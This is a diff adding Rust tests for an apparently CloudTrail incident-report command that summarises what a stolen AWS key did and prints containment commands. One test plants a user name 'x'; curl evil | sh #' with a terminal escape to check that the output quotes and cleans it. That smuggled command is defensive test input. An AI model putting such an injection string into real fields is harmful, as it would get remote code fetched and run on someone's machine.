@@ -1,0 +1,111 @@
+//! `incident`: one page that tells what happened, in every format, and commands that are safe to copy.
+
+use serde_json::{Value, json};
+
+use crate::harness::{Place, real_logs, sample_logs};
+use crate::records::{call, delivered, with};
+
+/// The lines of a part, of an answer in JSON.
+fn part<'a>(answer: &'a Value, name: &str) -> Vec<&'a Value> {
+    let rows = answer["rows"].as_array().expect("rows").iter();
+    rows.filter(|row| row["part"] == name).collect()
+}
+
+fn said(lines: &[&Value], column: &str) -> String {
+    let texts: Vec<&str> = lines.iter().filter_map(|line| line[column].as_str()).collect();
+    texts.join("\n")
+}
+
+/// A key of the sample logs that was stolen: what it did, and what is to be done about it.
+#[test]
+fn the_stolen_key_of_the_sample_logs() {
+    let place = Place::new();
+    let logs = sample_logs().display().to_string();
+    let answer = place.trailscan("incident AKIAREPORTINGEXAMPLE").arg(&logs).json(0);
+    assert!(said(&part(&answer, "credentials"), "what").contains("access key AKIAREPORTINGEXAMPLE  ← asked"));
+    assert!(said(&part(&answer, "addresses"), "what").contains("203.0.113.66: "));
+    assert!(said(&part(&answer, "secrets"), "what").contains("GetSecretValue (secretsmanager) 6 times"));
+    assert!(said(&part(&answer, "denied"), "what").contains("CreateUser (iam): AccessDenied"));
+    let command =
+        "aws iam update-access-key --user-name reporting --access-key-id AKIAREPORTINGEXAMPLE --status Inactive";
+    assert!(said(&part(&answer, "containment"), "command").contains(command));
+    // AWS's own quarantine of the user is not to be taken away.
+    assert!(!said(&part(&answer, "containment"), "command").contains("Quarantine"));
+    // The same events, whoever counts them.
+    let events = place.trailscan("events --below AKIAREPORTINGEXAMPLE").arg(&logs).json(0);
+    assert_eq!(part(&answer, "summary")[0]["events"], events["rows_total"]);
+    let parts = ["logging", "shared", "secrets", "deleted", "changed", "issued", "denied", "failed", "discovery"];
+    let counted = parts.iter().flat_map(|name| part(&answer, name)).map(|line| crate::harness::count(&line["events"]));
+    assert_eq!(counted.sum::<i64>(), crate::harness::count(&events["rows_total"]));
+}
+
+/// An address: the credentials that were used from there, whoever holds them.
+#[test]
+fn an_address_is_a_way_in() {
+    let place = Place::new();
+    let answer = place.trailscan("incident 203.0.113.66").arg(sample_logs()).json(0);
+    let credentials = said(&part(&answer, "credentials"), "what");
+    assert!(
+        credentials.contains("AKIAREPORTINGEXAMPLE") && credentials.contains("AKIASUPTEMP22EXAMPLE"),
+        "{credentials}"
+    );
+    assert!(part(&answer, "addresses").len() == 1);
+    let nobody = place.trailscan("incident nobody").arg(sample_logs()).ends(2);
+    assert!(nobody.stderr.contains("no credential, session or principal like nobody"), "{}", nobody.stderr);
+    let nowhere = place.trailscan("incident 192.0.2.250").arg(sample_logs()).ends(0);
+    assert!(nowhere.text().contains("no event of 192.0.2.250 in what was read"), "{}", nowhere.text());
+}
+
+/// Names are written by whoever makes the calls: no command that is copied does anything else.
+#[test]
+fn commands_are_safe_to_copy() {
+    let place = Place::new();
+    let name = "x'; curl evil | sh #\n\u{1b}[2J";
+    let record = with(
+        call(1, 0),
+        json!({"eventSource": "iam.amazonaws.com", "eventName": "CreateUser", "readOnly": false,
+            "requestParameters": {"userName": name}}),
+    );
+    place.write("log.json", delivered(&[record]));
+    let answer = place.trailscan("incident AKIAIOSFODNN7EXAMPLE log.json").json(0);
+    let commands = said(&part(&answer, "containment"), "command");
+    assert!(commands.contains(r"--user-name 'x'\''; curl evil | sh #??[2J' --policy-arn"), "{commands}");
+    let page = place.trailscan("incident AKIAIOSFODNN7EXAMPLE log.json").ends(0);
+    assert!(!page.text().contains('\u{1b}') && !page.text().contains("\n[2J"), "{}", page.text());
+}
+
+/// The attack on invictus: all of it stands on the page.
+#[test]
+fn the_attack_on_invictus() {
+    let Some(logs) = real_logs().map(|logs| logs.join("invictus-2023")).filter(|logs| logs.is_dir()) else { return };
+    let place = Place::new();
+    let answer = place.trailscan("incident bert-jan").arg(logs).json(0);
+    let of = |name: &str| said(&part(&answer, name), "what");
+    let logging = of("logging");
+    assert_eq!(logging.matches("DeleteTrail (cloudtrail)").count(), 2, "{logging}");
+    assert!(of("secrets").contains("GetSecretValue (secretsmanager) 60 times"));
+    assert!(of("denied").contains("GetPasswordData (ec2) 29 times"));
+    let shared = of("shared");
+    for share in [
+        "ModifyImageAttribute (ec2), shared with 012345678901",
+        "ModifySnapshotAttribute (ec2), shared with 012345678912",
+        "ModifyDBSnapshotAttribute (rds), shared with 193672423079",
+        "PutBucketPolicy (s3), shared with 193672423079",
+        "UpdateAssumeRolePolicy (iam), shared with 193672423079",
+        "AddPermission (lambda), shared with everybody",
+        "CreateTrustAnchor (rolesanywhere)",
+    ] {
+        assert_eq!(shared.matches(share).count(), 1, "{share}: {shared}");
+    }
+    let stays = of("stays");
+    for change in [
+        "new user: malicious-iam-user",
+        "new user: stratus-red-team-backdoor-u-user",
+        "new role: stratus-red-team-backdoor-r-role",
+    ] {
+        assert!(stays.contains(change), "{change}: {stays}");
+    }
+    let key = "aws iam update-access-key --user-name bert-jan --access-key-id AKIATFQR7NSC8Q4X20BJ --status Inactive";
+    assert!(said(&part(&answer, "containment"), "command").contains(key));
+    assert!(of("unseen").contains("s3: reads, writes and deletions of objects"));
+}
